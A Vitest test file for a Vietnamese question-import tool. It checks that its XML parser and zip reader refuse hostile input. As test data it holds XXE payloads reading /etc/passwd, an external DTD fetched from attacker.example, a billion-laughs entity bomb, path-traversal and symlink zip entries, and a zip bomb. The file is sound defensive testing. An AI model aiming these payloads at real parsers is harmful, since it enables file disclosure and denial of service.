import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { AppError } from '../../src/core/errors.js';
import { parseUntrustedXml } from '../../src/questions/formats/safe-xml.js';
import { readUntrustedZip } from '../../src/core/safe-zip.js';
import { zipOf } from '../helpers/zip.js';

/** The AppError an action throws (sync or async), failing the test when it throws nothing or something else. */
async function refusal(action: () => unknown): Promise<AppError> {
  try {
    await action();
  } catch (error) {
    expect(error).toBeInstanceOf(AppError);
    return error as AppError;
  }
  return expect.fail('expected an AppError');
}

describe('safe XML: entities and DTDs are refused before parsing', () => {
  const secretDir = fs.mkdtempSync(path.join(os.tmpdir(), 'xxe-'));
  const secretFile = path.join(secretDir, 'bi-mat.txt');
  fs.writeFileSync(secretFile, 'MAT-KHAU-BI-MAT-42');
  afterAll(() => fs.rmSync(secretDir, { recursive: true, force: true }));

  it('XXE with SYSTEM "file:///etc/passwd" (and a local secret) is refused and never reads the file', async () => {
    const readFileSync = vi.spyOn(fs, 'readFileSync');
    const openSync = vi.spyOn(fs, 'openSync');
    for (const target of ['file:///etc/passwd', `file://${secretFile}`]) {
      const xxe = `<?xml version="1.0"?>\n<!DOCTYPE quiz [<!ENTITY secret SYSTEM "${target}">]>\n<quiz><question type="essay"><questiontext><text>&secret;</text></questiontext></question></quiz>`;
      const error = await refusal(() => parseUntrustedXml(xxe));
      expect(error.code).toBe('QUESTION_FILE_UNSAFE');
      expect(JSON.stringify({ ...error, message: error.message })).not.toMatch(/root:|MAT-KHAU-BI-MAT/);
    }
    expect(readFileSync).not.toHaveBeenCalled();
    expect(openSync).not.toHaveBeenCalled();
    vi.restoreAllMocks();
  });

  it('a parameter entity pulling an external file is refused too', async () => {
    const xml = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><x/>';
    expect((await refusal(() => parseUntrustedXml(xml))).code).toBe('QUESTION_FILE_UNSAFE');
  });

  it('billion laughs is refused at once, without expanding anything', async () => {
    const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${levels}]><lolz>&lol9;</lolz>`;
    const started = performance.now();
    const error = await refusal(() => parseUntrustedXml(laughs));
    expect(performance.now() - started).toBeLessThan(100);
    expect(error.code).toBe('QUESTION_FILE_UNSAFE');
    expect(error.params.reason).toContain('<!ENTITY>');
  });

  it('an external DTD (SYSTEM or PUBLIC) is refused even without entities', async () => {
    for (const doctype of ['<!DOCTYPE quiz SYSTEM "file:///etc/passwd">', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">']) {
      const error = await refusal(() => parseUntrustedXml(`<?xml version="1.0"?>\n${doctype}\n<quiz/>`));
      expect(error.code).toBe('QUESTION_FILE_UNSAFE');
      expect(error.params.reason).toContain('DTD');
    }
  });

  it('malformed XML is refused as malformed, naming the line', async () => {
    const error = await refusal(() => parseUntrustedXml('<?xml version="1.0"?>\n<quiz>\n  <question type="essay">\n    <name><text>Câu hỏi</name>\n  </question>\n</quiz>'));
    expect(error.code).toBe('QUESTION_FILE_MALFORMED');
    expect(error.params.reason).toMatch(/dòng 4\b/);
  });

  it('character references decode (with the htmlEntities option our importers pass), never twice', () => {
    const tree = parseUntrustedXml('<a t="&#272;">&lt;b&gt; &amp; &quot;c&quot; &apos;d&apos; &#272;&#x1EA1; &amp;#272;</a>', { htmlEntities: true }) as { a: { '#text': string; '@_t': string } };
    expect(tree.a['#text']).toBe('<b> & "c" \'d\' Đạ &#272;');
    expect(tree.a['@_t']).toBe('Đ');
  });
});


describe('safe zip: hostile packages are refused before anything is extracted', () => {
  it('reads a normal package, Vietnamese names included, directories left out', async () => {
    const files = await readUntrustedZip(await zipOf([{ name: 'imsmanifest.xml', data: '<manifest/>' }, { name: 'hình ảnh/đồ thị.png', data: Buffer.from([1, 2, 3]) }]));
    expect([...files.keys()]).toEqual(['imsmanifest.xml', 'hình ảnh/đồ thị.png']);
    expect(files.get('hình ảnh/đồ thị.png')).toEqual(Buffer.from([1, 2, 3]));
  });

  it.each([
    ['../../evil.xml', 'a path climbing out with ../'],
    ['items/../../evil.xml', 'a ../ in the middle'],
    ['..\\..\\evil.xml', 'Windows separators'],
    ['/etc/cron.d/evil', 'an absolute path'],
    ['C:/Windows/evil.xml', 'a drive letter'],
  ])('refuses %s (%s)', async (name) => {
    const bytes = await zipOf([{ name: 'imsmanifest.xml', data: '<manifest/>' }, { name, data: '<x/>' }]);
    expect(bytes.includes(Buffer.from(name, 'latin1'))).toBe(true);
    const error = await refusal(() => readUntrustedZip(bytes));
    expect(error.code).toBe('QUESTION_FILE_UNSAFE');
  });

  it('refuses a symlink entry, naming it', async () => {
    const bytes = await zipOf([{ name: 'imsmanifest.xml', data: '<manifest/>' }, { name: 'items/q1.xml', data: '/etc/passwd', mode: 0o120777 }]);
    const error = await refusal(() => readUntrustedZip(bytes));
    expect(error.code).toBe('QUESTION_FILE_UNSAFE');
    expect(error.params.reason).toContain('items/q1.xml');
    expect(error.params.reason).toContain('symlink');
  });

  it('refuses more entries than the limit, counted from the directory before reading any', async () => {
    const entries = Array.from({ length: 51 }, (_, i) => ({ name: `f${i}.txt`, data: '' }));
    const bytes = await zipOf(entries);
    const error = await refusal(() => readUntrustedZip(bytes, { maxEntries: 50 }));
    expect(error.code).toBe('QUESTION_FILE_UNSAFE');
    expect(error.params.reason).toContain('51 mục');
    expect(await readUntrustedZip(bytes, { maxEntries: 51 })).toHaveProperty('size', 51);
  });

  it('refuses a directory claiming more than 5000 entries (the default limit)', async () => {
    const bytes = await zipOf([{ name: 'a.txt', data: 'a' }]);
    // End of central directory record: entries on this disk (offset 8) and in total (offset 10).
    const end = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
    bytes.writeUInt16LE(5001, end + 8);
    bytes.writeUInt16LE(5001, end + 10);
    const error = await refusal(() => readUntrustedZip(bytes));
    expect(error.code).toBe('QUESTION_FILE_UNSAFE');
    expect(error.params.reason).toContain('5001');
  });

  it('refuses a bomb (small zip, huge uncompressed total) from its directory, quickly', async () => {
    const bytes = await zipOf([{ name: 'imsmanifest.xml', data: '<manifest/>' }, { name: 'big.xml', data: Buffer.alloc(30 * 1024 * 1024, 0x20) }]);
    expect(bytes.length).toBeLessThan(100 * 1024);
    const started = performance.now();
    const error = await refusal(() => readUntrustedZip(bytes));
    expect(performance.now() - started).toBeLessThan(500);
    expect(error.code).toBe('QUESTION_FILE_UNSAFE');
    expect(error.params.reason).toContain('zip bomb');
  });

  it('refuses an archive over the absolute size limit even when it compresses poorly', async () => {
    const noise = Buffer.from(Array.from({ length: 64 * 1024 }, (_, i) => (i * 7919 + (i >> 3) * 104729) % 251));
    const error = await refusal(async () => readUntrustedZip(await zipOf([{ name: 'a.bin', data: noise }]), { maxTotalBytes: 32 * 1024 }));
    expect(error.code).toBe('QUESTION_FILE_UNSAFE');
  });

  it('an entry that inflates beyond its declared size is caught while reading', async () => {
    const bytes = await zipOf([{ name: 'big.xml', data: Buffer.alloc(4096, 0x41) }]);
    // Declare 16 bytes in the central directory (uncompressed size at offset 24 of its header).
    const central = bytes.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    bytes.writeUInt32LE(16, central + 24);
    const error = await refusal(() => readUntrustedZip(bytes));
    expect(error.code).toBe('QUESTION_FILE_MALFORMED');
  });

  it('something that is not a zip is malformed, not a crash', async () => {
    expect((await refusal(() => readUntrustedZip(Buffer.from('PK\u0003\u0004 không phải zip')))).code).toBe('QUESTION_FILE_MALFORMED');
  });
});
